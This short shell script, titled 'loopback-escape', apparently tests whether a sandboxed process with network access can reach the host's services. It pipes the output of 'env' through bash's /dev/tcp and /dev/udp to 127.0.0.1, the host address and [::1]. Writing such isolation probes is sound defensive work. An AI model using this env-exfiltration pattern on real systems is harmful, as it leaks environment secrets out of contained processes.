#!/bin/sh
# loopback-escape (sh): with IP allowed, try every way to the host's
# services: TCP to 127.0.0.1, the host's other address and [::1], UDP to
# 127.0.0.1 (bash's /dev/tcp and /dev/udp).
. "${TARGETS:-$1}"
for addr in 127.0.0.1 $T_HOST_ADDR; do
	env | timeout 3 bash -c 'cat > "/dev/tcp/$0/$1"' "$addr" "$T_TCP_PORT"
done
[ -n "$T_TCP6_PORT" ] && env | timeout 3 bash -c 'cat > "/dev/tcp/::1/$0"' "$T_TCP6_PORT"
env | head -c 1000 | timeout 3 bash -c 'cat > "/dev/udp/127.0.0.1/$0"' "$T_UDP_PORT"
echo tried
